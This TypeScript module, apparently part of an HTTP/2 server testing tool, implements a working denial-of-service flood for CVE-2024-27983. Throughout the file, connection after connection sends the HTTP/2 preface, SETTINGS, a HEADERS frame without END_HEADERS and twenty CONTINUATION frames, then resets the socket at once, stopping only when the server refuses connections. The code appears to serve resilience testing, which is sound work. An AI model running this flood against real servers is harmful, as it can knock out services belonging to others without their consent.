/**
 * `cut-blocks` (17.5.4, CVE-2024-27983): connections one after another, each an unfinished header
 * block cut by a TCP reset while the server may still be decoding it. The flood of one connection
 * each is here; the floods on one connection are in h2-flood.ts.
 */
import type { H2FloodAttack, H2FloodFacts } from '../../cases/attack-types.js';
import { encodeH2Frame, H2_PREFACE, H2Frame, hpackBlock, hpackLiteral } from '../../protocol/h2-frames.js';
import { probeFields } from '../h2-probe.js';
import { connectTo, targetHostPort } from '../play-case.js';
import type { ServerTarget } from '../play-types.js';
import { factsOf } from './h2-flood.js';

/** How many CONTINUATION frames (of a 100-byte field each) a cut header block carries. */
const CUT_BLOCK_FRAMES = 20;

/**
 * `cut-blocks`: up to `units` connections one after another, each the preface, SETTINGS, HEADERS
 * without END_HEADERS and CONTINUATION frames in one write, then a TCP reset at once, while the
 * server may still be decoding the block (CVE-2024-27983). The flood ends early when a connection is
 * refused: the server is gone.
 */
export async function runCutBlocks(target: ServerTarget, attack: H2FloodAttack, signal: AbortSignal | undefined): Promise<H2FloodFacts> {
  const fields = hpackBlock(probeFields(target.tls ? 'https' : 'http', targetHostPort(target), target.resource));
  const block = Buffer.concat([
    H2_PREFACE,
    encodeH2Frame(H2Frame.Settings, 0, 0),
    encodeH2Frame(H2Frame.Headers, 0, 1, fields),
    ...Array.from({ length: CUT_BLOCK_FRAMES }, (_, k) => encodeH2Frame(H2Frame.Continuation, 0, 1, hpackLiteral(`x-cut-${k}`, 'a'.repeat(100)))),
  ]);
  const started = performance.now();
  let written = 0;
  let end: H2FloodFacts['end'] = null;
  while (written < attack.units && signal?.aborted !== true) {
    const why = await cutOne(target, block);
    if (why !== null) {
      end = { ms: performance.now() - started, unitsWritten: written, unitsRead: null, goaway: null };
      break;
    }
    written++;
  }
  return factsOf(attack, {
    refused: written === 0 && end !== null ? 'the first connection was refused' : null,
    unitsWritten: written,
    unitBytes: block.length,
    end,
    ending: end === null ? 'open' : 'reset',
    writingMs: performance.now() - started,
  });
}

/** One connection: the block written, then reset on the next turn of the event loop; null, or why it failed. */
function cutOne(target: ServerTarget, block: Buffer): Promise<string | null> {
  return new Promise((resolve) => {
    let settled = false;
    const done = (why: string | null): void => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      resolve(why);
    };
    // A connection that neither opens nor fails (a TLS handshake left hanging) must not hold the flood.
    const timer = setTimeout(() => {
      socket.destroy();
      done(`no connection within ${CUT_CONNECT_MS / 1000} s`);
    }, CUT_CONNECT_MS);
    const socket = connectTo(
      target,
      (s) => {
        s.on('error', () => undefined);
        s.write(block);
        setImmediate(() => {
          // A TLS socket cannot be reset from Node (its handle is TLS's): it is destroyed, a FIN (or a reset when the server's data waits unread).
          if (target.tls) s.destroy();
          else s.resetAndDestroy();
          done(null);
        });
      },
      (why) => done(why),
    );
    socket.on('error', () => undefined);
    socket.once('close', () => done('the connection closed before it opened'));
  });
}

/** How long one connection of `cut-blocks` may take to open. */
const CUT_CONNECT_MS = 5000;
